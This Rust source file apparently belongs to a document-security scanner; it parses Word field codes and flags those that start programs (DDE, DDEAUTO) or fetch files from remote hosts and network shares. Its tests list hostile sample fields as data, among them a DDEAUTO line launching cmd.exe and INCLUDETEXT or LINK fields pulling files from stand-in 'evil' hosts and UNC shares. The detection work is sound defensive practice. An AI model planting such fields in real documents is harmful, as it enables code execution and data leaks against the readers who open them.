// SPDX-License-Identifier: MPL-2.0
//! Fields of Word. Most write a number of a page or a date; some start a program or fetch a file as
//! soon as the document is open.

use super::targets::Place;

/// Fields inside fields. Word takes twenty.
const MAX_DEPTH: usize = 50;
/// How much of a field is kept, in bytes: others have the data of programs that cite.
const MAX_CODE: usize = 8 << 10;

/// Talk to a program.
const TALKING: [&str; 2] = ["DDE", "DDEAUTO"];
/// Put a file into the document.
const FETCHING: [&str; 7] = ["DATABASE", "IMPORT", "INCLUDE", "INCLUDETEXT", "LINK", "RD", "SUBSCRIBER"];
const PICTURE: &str = "INCLUDEPICTURE";
const LINKING: &str = "HYPERLINK";

#[derive(Debug, Default)]
struct Field {
    code: String,
    /// What comes now is what the field shows.
    is_shown: bool,
    /// A part of the code is what another field shows.
    is_computed: bool,
}

/// The fields of one part, as they come.
#[derive(Debug, Default)]
pub struct Fields {
    open: Vec<Field>,
    is_active: bool,
}

impl Fields {
    pub fn begin(&mut self) {
        if let Some(outer) = self.open.last_mut() {
            outer.is_computed |= !outer.is_shown;
        }
        self.is_active |= self.open.len() >= MAX_DEPTH;
        if !self.is_active {
            self.open.push(Field::default());
        }
    }

    pub fn push(&mut self, letters: &str) {
        if self.open.is_empty() {
            self.open.push(Field::default());
        }
        let Some(field) = self.open.last_mut().filter(|field| field.code.len() < MAX_CODE) else { return };
        field.code.push_str(letters);
    }

    pub fn separate(&mut self) {
        if let Some(field) = self.open.last_mut() {
            field.is_shown = true;
            self.is_active |= is_active(&field.code, field.is_computed);
        }
    }

    pub fn end(&mut self) {
        if let Some(field) = self.open.pop() {
            self.is_active |= is_active(&field.code, field.is_computed);
        }
    }

    /// A field in one piece.
    pub fn whole(&mut self, code: &str) {
        self.is_active |= is_active(code, false);
    }

    /// Whether any starts or fetches something; also of those that have no end.
    pub fn is_active(&self) -> bool {
        self.is_active || self.open.iter().any(|field| is_active(&field.code, field.is_computed))
    }
}

fn is_active(code: &str, is_computed: bool) -> bool {
    let words = words(code);
    let Some((name, words)) = words.split_first() else { return false };
    let name = name.to_uppercase();
    if TALKING.contains(&&*name) {
        return true;
    }
    let fetches = FETCHING.contains(&&*name);
    if !fetches && name != PICTURE && name != LINKING {
        return false;
    }
    // What is not written out, or cut off, may lead anywhere.
    if name != LINKING && is_computed || code.len() >= MAX_CODE {
        return true;
    }
    let is_share = |word: &String| {
        let lower = word.to_ascii_lowercase();
        lower.starts_with("file:") || lower.starts_with("\\\\") || lower.starts_with("//")
    };
    let first = words.iter().find(|word| !is_switch(word));
    let place = first.map_or(Place::Beside, |word| Place::of(word));
    let may_be = match &*name {
        PICTURE => place != Place::Elsewhere,
        LINKING => matches!(place, Place::Beside | Place::Web | Place::Mail),
        _ => matches!(place, Place::Beside | Place::Disk),
    };
    let leads_away = |word: &String| fetches && Place::of(word) == Place::Web;
    !may_be || words.iter().any(|word| is_share(word) || leads_away(word))
}

fn is_switch(word: &str) -> bool {
    word.strip_prefix('\\').is_some_and(|rest| !rest.starts_with('\\'))
}

/// Words, and what stands in quotation marks.
fn words(code: &str) -> Vec<String> {
    let (mut words, mut word, mut is_quoted) = (Vec::new(), String::new(), false);
    for letter in code.chars() {
        let is_mark = matches!(letter, '"' | '“' | '”' | '„' | '«' | '»');
        if is_mark || !is_quoted && (letter.is_whitespace() || letter.is_control()) {
            is_quoted ^= is_mark;
            words.push(std::mem::take(&mut word));
        } else {
            word.push(letter);
        }
    }
    words.push(word);
    words.retain(|word| !word.trim().is_empty());
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whole(code: &str) -> bool {
        let mut fields = Fields::default();
        fields.whole(code);
        fields.is_active()
    }

    #[test]
    fn what_starts_a_program_or_fetches_a_file_of_another_machine_is_found() {
        for code in [
            r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#,
            " dde Excel Sheet1",
            "\"DDE\" cmd x",
            r"INCLUDETEXT \\\\evil\\x.docx",
            r#"INCLUDETEXT "https://evil.vn/x.docx""#,
            r#"INCLUDETEXT \c x "file://evil/x.docx""#,
            r"INCLUDEPICTURE “\\\\evil\\x.png” \d",
            r#"LINK Excel.Sheet.12 "\\\\evil\\x.xlsx" a"#,
            r#"HYPERLINK "file:///c:/windows/calc.exe""#,
            "HYPERLINK calc.exe",
        ] {
            assert!(whole(code), "{code}");
        }
    }

    #[test]
    fn what_writers_use_is_taken() {
        for code in [
            "PAGE",
            r#"DATE \@ "dd/MM/yyyy""#,
            r#"TOC \o "1-3" \h \z \u"#,
            r#"HYPERLINK "https://chinhphu.vn" \o "Ghi chú: Note: trang""#,
            r#"HYPERLINK \l "_Toc1""#,
            r#"HYPERLINK "mailto:an@a.vn""#,
            r#"INCLUDEPICTURE "cid:image001.png@01DA" \* MERGEFORMATINET"#,
            r#"INCLUDEPICTURE "https://a.vn/anh.png""#,
            r#"INCLUDEPICTURE "C:\\Users\\An\\anh.png""#,
            "MERGEFIELD Ho_ten",
            r#"ADDIN ZOTERO_ITEM {"uri": "file:///x"}"#,
        ] {
            assert!(!whole(code), "{code}");
        }
    }

    #[test]
    fn the_code_of_a_field_in_pieces_is_put_together_and_what_it_shows_is_not_code() {
        let mut fields = Fields::default();
        fields.begin();
        for piece in ["D", "DEAU", "TO cmd"] {
            fields.push(piece);
        }
        assert!(fields.is_active(), "also without an end");

        let mut shown = Fields::default();
        shown.begin();
        shown.push("INCLUDEPICTURE \"https://a.vn/a.png\"");
        shown.separate();
        shown.begin();
        shown.push("INCLUDEPICTURE \"https://a.vn/a.png\"");
        shown.end();
        shown.end();
        assert!(!shown.is_active(), "a picture that shows a picture");

        let mut computed = Fields::default();
        computed.begin();
        computed.push("INCLUDETEXT \"");
        computed.begin();
        computed.push("QUOTE 92 92");
        computed.end();
        computed.push("evil\"");
        computed.end();
        assert!(computed.is_active());
    }
}
